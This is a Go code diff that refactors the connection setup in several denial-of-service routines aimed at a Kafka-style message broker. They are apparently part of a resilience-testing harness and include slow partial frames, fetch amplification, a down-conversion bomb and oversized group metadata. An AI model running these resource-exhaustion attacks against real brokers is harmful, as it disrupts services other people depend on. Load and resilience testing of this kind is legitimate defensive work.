@@ -46,16 +46,14 @@ func attackNames() []string {
 // partialFrames: connections that announce a 90 MiB request and send as
 // much of an 89 MiB body as the broker will read, never finishing.
 func partialFrames(ctx context.Context, t target) (string, func(), error) {
-	conns, deadline := make([]*conn, t.count(24)), time.Now().Add(t.hold)
+	conns, err := dialAll(t.addr, t.count(24))
+	if err != nil {
+		return "", nil, err
+	}
+	deadline := time.Now().Add(t.hold)
 	var sent atomic.Int64
 	var wg sync.WaitGroup
-	for i := range conns {
-		c, err := dial(t.addr)
-		if err != nil {
-			closeAll(conns)
-			return "", nil, err
-		}
-		conns[i] = c
+	for _, c := range conns {
 		wg.Add(1)
 		go func() {
 			defer wg.Done()
@@ -103,14 +101,11 @@ func fetchAmplification(ctx context.Context, t target) (string, func(), error) {
 		ft.Partitions[i] = p
 	}
 	req.Topics = []kmsg.FetchRequestTopic{ft}
-	conns := make([]*conn, t.count(4))
-	for i := range conns {
-		c, err := dial(t.addr)
-		if err != nil {
-			closeAll(conns)
-			return "", nil, err
-		}
-		conns[i] = c
+	conns, err := dialAll(t.addr, t.count(4))
+	if err != nil {
+		return "", nil, err
+	}
+	for _, c := range conns {
 		if err := c.send(req, 4, time.Now().Add(30*time.Second)); err != nil {
 			closeAll(conns)
 			return "", nil, fmt.Errorf("send fetch: %w", err)
@@ -139,16 +134,13 @@ func downconvertBomb(ctx context.Context, t target) (string, func(), error) {
 	p.Partition, p.FetchOffset, p.PartitionMaxBytes = 0, 0, 1<<30
 	ft.Partitions = []kmsg.FetchRequestTopicPartition{p}
 	req.Topics = []kmsg.FetchRequestTopic{ft}
-	conns := make([]*conn, t.count(2))
+	conns, err := dialAll(t.addr, t.count(2))
+	if err != nil {
+		return "", nil, err
+	}
 	answered := make([]string, len(conns))
 	var wg sync.WaitGroup
-	for i := range conns {
-		c, err := dial(t.addr)
-		if err != nil {
-			closeAll(conns)
-			return "", nil, err
-		}
-		conns[i] = c
+	for i, c := range conns {
 		wg.Add(1)
 		go func(i int) {
 			defer wg.Done()
@@ -220,15 +212,12 @@ func produceBombs(addr, topic string, n, size int) error {
 // keeps until its session times out.
 func groupMetadata(ctx context.Context, t target) (string, func(), error) {
 	meta := bytes.Repeat([]byte{7}, 8<<20)
-	conns := make([]*conn, t.count(40))
+	conns, err := dialAll(t.addr, t.count(40))
+	if err != nil {
+		return "", nil, err
+	}
 	sent, refused := 0, ""
-	for i := range conns {
-		c, err := dial(t.addr)
-		if err != nil {
-			closeAll(conns)
-			return "", nil, err
-		}
-		conns[i] = c
+	for i, c := range conns {
 		group := fmt.Sprintf("attack-%d", i)
 		member, err := memberID(c, group)
 		if err != nil {
